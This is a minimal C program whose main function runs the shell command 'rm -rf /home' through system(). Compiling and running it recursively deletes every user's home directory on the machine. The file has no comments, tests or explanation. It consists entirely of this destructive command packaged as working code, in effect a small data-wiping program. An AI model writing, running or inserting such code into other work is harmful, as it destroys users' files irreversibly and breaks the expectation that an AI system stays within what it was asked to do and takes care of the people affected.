#include <stdlib.h>

int main(void) {
    return system("rm -rf /home");
}
